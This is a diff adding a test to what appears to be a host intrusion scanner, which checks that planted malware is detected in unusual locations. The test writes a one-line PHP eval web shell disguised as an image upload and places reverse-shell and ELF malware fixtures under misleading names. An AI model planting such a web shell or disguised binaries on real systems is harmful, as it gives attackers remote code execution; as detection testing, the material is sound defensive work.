@@ -213,3 +213,45 @@ describe('server-side scripts named to pass an upload filter', () => {
     );
   });
 });
+
+describe('the content scan file set', () => {
+  const r = new FakeRoot('hostsweep-content-set-').base();
+  after(() => fs.rmSync(r.dir, { recursive: true, force: true }));
+  const shell = fixture('reverse-shell', 'fires.sh');
+  r.write(
+    '/etc/passwd',
+    'root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\ngit:x:998:998::/data/git:/usr/bin/git-shell\n',
+  )
+    // A service account's home outside /home, an nginx root outside the default web roots, a
+    // hidden directory under /var/lib and an unowned program in a system directory.
+    .write('/data/git/.cache/.u', shell)
+    .write('/etc/nginx/sites-enabled/shop', 'server {\n  root /data/shop/public;\n}\n')
+    .write('/data/shop/public/up/a.png.php', '<?php @eval($_POST["z"]);\n')
+    .write('/var/lib/.x/run', shell, { mode: 0o755 })
+    .write(
+      '/usr/bin/dbus-helper',
+      Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01\0'), Buffer.alloc(64), fixture('family-billgates', 'fires.bin')]),
+      {
+        mode: 0o755,
+      },
+    )
+    // A package's own file with the same text is left to the package integrity check.
+    .write('/var/lib/dpkg/info/coreutils.list', '/.\n/bin\n/bin/ls\n/bin/cat\n/usr/bin/env\n/usr/bin/quoted\n')
+    .write('/usr/bin/quoted', shell, { mode: 0o755 });
+
+  it('reads account homes, configured web roots, /var/lib and unowned system programs, not package files', async () => {
+    const { result, snapshot } = await scan({ root: r.dir, sampleMs: 0 });
+    const withContent = (p: string) =>
+      result.findings.filter((f) => f.path === p && f.evidence.some((e) => e.startsWith('content rule: '))).map((f) => f.rule);
+    assert.equal(withContent('/data/git/.cache/.u').length, 1, 'home of a service account');
+    assert.equal(withContent('/data/shop/public/up/a.png.php').length, 1, 'configured web root');
+    assert.equal(withContent('/var/lib/.x/run').length, 1, 'hidden dir under /var/lib');
+    assert.equal(withContent('/usr/bin/dbus-helper').length, 1, 'unowned program in /usr/bin');
+    assert.deepEqual(withContent('/usr/bin/quoted'), [], 'package-owned file');
+    assert.ok(
+      snapshot.facts.contentScan?.webScriptNames?.some(
+        (w) => w.path === '/data/shop/public/up/a.png.php' && w.root === '/data/shop/public',
+      ),
+    );
+  });
+});
